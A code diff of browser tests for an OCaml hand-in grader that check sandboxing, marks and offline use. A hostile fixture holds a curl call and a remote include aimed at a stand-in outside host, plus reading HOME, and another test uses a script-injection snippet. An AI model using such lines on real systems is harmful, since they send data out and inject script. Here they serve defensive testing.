@@ -1,7 +1,5 @@
 """Hand-ins checked on the page: as the command line does, whatever they do, and nothing leaves the browser."""
 
-from __future__ import annotations
-
 import csv
 import re
 import time
@@ -25,9 +23,7 @@ from rummifun.messages import translation
 from ..browser.test_ecrans import faults
 from .conftest import Elsewhere, Host, controlled
 
-LONG = 300_000
-"""Milliseconds: the machine may be busy with other tests."""
-
+LONG = 300_000  # milliseconds: the machine may be busy with other tests
 LEURRES = Path(__file__).parents[2] / "grading" / "hand_ins" / "leurres.ml"
 STORED = """async () => [
   (await indexedDB.databases()).map(({ name }) => name).sort(),
@@ -49,7 +45,6 @@ DROP = """(text) => {
 
 
 def entered(context: BrowserContext, host: Host, lang: str = "en") -> Page:
-    """Enter the room, once the page is kept by itself."""
     context.add_init_script(f"if (location.protocol === 'http:') localStorage.setItem('lang', '{lang}')")
     page = context.new_page()
     page.goto(f"{host.address}#/rendu")
@@ -64,7 +59,6 @@ def put(page: Page, files: Mapping[str, bytes]) -> None:
 
 
 def checked(page: Page, files: Mapping[str, bytes]) -> str:
-    """Put files in, have them checked, and give what the report says."""
     put(page, files)
     page.locator("button.main").click()
     page.wait_for_selector(".report, .handin [role=alert]:not(:empty)", timeout=LONG)
@@ -80,13 +74,10 @@ def saved(page: Page, said: str) -> str:
 
 
 def file_of(made: Made, name: str) -> tuple[str, bytes]:
-    """Give a hand-in as one file: those beside it in a zip with it."""
     text = made.text if isinstance(made.text, bytes) else made.text.encode()
-    return (
-        (f"{name}.zip", packed({name: text, **{n: t.encode() for n, t in made.beside}}))
-        if made.beside
-        else (name, text)
-    )
+    if made.beside:
+        return f"{name}.zip", packed({name: text, **{n: t.encode() for n, t in made.beside}})
+    return name, text
 
 
 def packed(files: Mapping[str, bytes]) -> bytes:
@@ -98,14 +89,11 @@ def packed(files: Mapping[str, bytes]) -> bytes:
 
 
 def fits(page: Page) -> bool:
-    """Tell whether nothing of a page is to be scrolled to sideways."""
     return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
 
 
 @pytest.mark.parametrize("lang", ["fr", pytest.param("en", marks=pytest.mark.lent)])
-def test_check_shows_a_fault_with_its_smallest_case(
-    context: BrowserContext, host: Host, elsewhere: Elsewhere, lang: str
-) -> None:
+def test_check_shows_a_smallest_case(context: BrowserContext, host: Host, elsewhere: Elsewhere, lang: str) -> None:
     page = entered(context, host, lang)
     assert faults(page) == []
     expect(page.get_by_text({"fr": "ne quitte cette machine", "en": "leaves this machine"}[lang])).to_be_visible()
@@ -144,45 +132,33 @@ def marks(page: Page, ones: Mapping[str, Made], lang: str = "en") -> tuple[list[
     """Have hand-ins marked by the page, and by the command line: rows of shares and points, without the remarks."""
     files = dict(file_of(made, name) for name, made in ones.items())
     checked(page, files)
-    native = [
-        GradedSubmission(file, graded_made(made, name)) for (name, made), file in zip(ones.items(), files, strict=True)
-    ]
-    there, here = (
-        saved(page, "save the marks"),
-        spreadsheet_text(sorted(native, key=lambda one: one.name), translation(lang), lang),
-    )
-    return _rows(there), _rows(here.removeprefix("\ufeff"))
-
-
-def _rows(text: str) -> list[list[str]]:
-    return [row[:-1] for row in csv.reader(StringIO(text))]
+    pairs = zip(ones.items(), files, strict=True)
+    native = [GradedSubmission(file, graded_made(made, name)) for (name, made), file in pairs]
+    here = spreadsheet_text(sorted(native, key=lambda one: one.name), translation(lang), lang).removeprefix("\ufeff")
+    there = saved(page, "save the marks")
+    return [row[:-1] for row in csv.reader(StringIO(there))], [row[:-1] for row in csv.reader(StringIO(here))]
 
 
 @pytest.mark.lent
 def test_check_marks_as_the_command_line_does_question_by_question(context: BrowserContext, host: Host) -> None:
     page = entered(context, host)
     there, here = marks(page, {**{name: HAND_INS[name] for name in FEW}, "rendu.py": Made(PYTHON)})
-    assert len(there) == 3 + len(FEW) + 1
-    assert there == here
+    assert (len(there), there) == (3 + len(FEW) + 1, here)
     page.set_viewport_size({"width": 360, "height": 800})
     assert fits(page)
     assert faults(page) == []
 
 
 @pytest.mark.lent
-@pytest.mark.lent
 def test_check_marks_all_hand_ins_as_the_command_line_does(context: BrowserContext, host: Host) -> None:
     there, here = marks(entered(context, host), {**HAND_INS, "leurres.ml": Made(LEURRES.read_text("utf-8"))})
-    assert len(there) == 3 + 17
-    assert there == here
+    assert (len(there), there) == (3 + 17, here)
 
 
 @pytest.mark.lent
 def test_check_takes_files_as_a_hand_in_each_or_one_together(context: BrowserContext, host: Host) -> None:
-    page = entered(context, host)
-    told = checked(
-        page, {"a.ml": GOOD_ML.encode(), "b.zip": packed({"x/b.ml": GOOD_ML.encode(), "y/c.ml": b"let x = 1"})}
-    )
+    page, good = entered(context, host), GOOD_ML.encode()
+    told = checked(page, {"a.ml": good, "b.zip": packed({"x/b.ml": good, "y/c.ml": b"let x = 1"})})
     assert page.locator(".report article > h2").all_inner_texts() == ["Hand-ins", "a.ml", "b.zip"]
     assert "x/b.ml, y/c.ml" in told
     page.locator(".files li", has_text="b.zip").get_by_role("button").click()
@@ -192,7 +168,6 @@ def test_check_takes_files_as_a_hand_in_each_or_one_together(context: BrowserCon
     assert page.locator(".report article > h2").all_inner_texts() == ["a.ml, d.ml"]
 
 
-@pytest.mark.lent
 @pytest.mark.lent
 def test_check_finds_what_does_not_end_and_judges_the_others(context: BrowserContext, host: Host) -> None:
     page = entered(context, host)
@@ -252,16 +227,12 @@ for address in ("http://elsewhere.example/told", "HOST/told", "HOST/VERSION/told
 raise RuntimeError("reached: " + (" ".join(reached) or "nothing"))
 """
 
-
 ATTACK_ML = """
 external js : string -> int = "caml_js_eval_string"
 
 let () = ignore (Sys.command "curl http://elsewhere.example/told")
-
 let () = ignore (open_in "http://elsewhere.example/told")
-
 let () = print_string (Unix.getenv "HOME")
-
 let x = Js_of_ocaml.Js.Unsafe.global
 
 #use "http://elsewhere.example/told"
@@ -284,43 +255,34 @@ def test_check_lets_a_hostile_hand_in_reach_neither_network_nor_storage(
     assert "`external` calls what is not OCaml" in told
     assert "1.25 / 24.99" in told  # nbocc is right
     page.wait_for_timeout(1000)
-    assert [one for one in host.asked if "told" in one] == []
-    assert elsewhere.asked == []
-    assert page.evaluate(STORED) == before
+    assert ([one for one in host.asked if "told" in one], elsewhere.asked, page.evaluate(STORED)) == ([], [], before)
 
 
 @pytest.mark.lent
 def test_shown_brings_no_script_of_a_forged_report(context: BrowserContext, host: Host) -> None:
-    page = entered(context, host)
-    forged = (
-        "<main><article><script>document.title='x'</script><img src=x><a href=javascript:f()>a</a></article></main>"
-    )
-    shown = page.evaluate(
+    inside = "<script>document.title='x'</script><img src=x><a href=javascript:f()>a</a>"
+    shown = entered(context, host).evaluate(
         """async (html) => {
           const main = document.querySelector("script[src*=main]").src;
           const { shown } = await import(new URL("report_html.js", main).href);
           return shown(html).innerHTML;
         }""",
-        forged,
+        f"<main><article>{inside}</article></main>",
     )
     assert not re.search("<(script|img)|javascript:", shown)
 
 
 @pytest.mark.lent
 def test_check_works_without_a_network(context: BrowserContext, host: Host) -> None:
-    page = entered(context, host)
-    until = time.monotonic() + 120
+    page, until = entered(context, host), time.monotonic() + 120
     while not page.evaluate(KEPT):
         assert time.monotonic() < until
         page.wait_for_timeout(500)
     host.cut()
     page.reload()
     page.wait_for_selector(".handin")
-    told = checked(
-        page,
-        {"a.ml": f"let rec cardinal ens = match ens with [] -> 0 | (_, n) :: r -> 1 + cardinal r\n{GOOD_ML}".encode()},
-    )
-    assert "cardinal [(" in told
+    wrong = f"let rec cardinal ens = match ens with [] -> 0 | (_, n) :: r -> 1 + cardinal r\n{GOOD_ML}"
+    assert "cardinal [(" in checked(page, {"a.ml": wrong.encode()})
 
 
 @pytest.mark.parametrize("lang", ["en", pytest.param("fr", marks=pytest.mark.lent)])
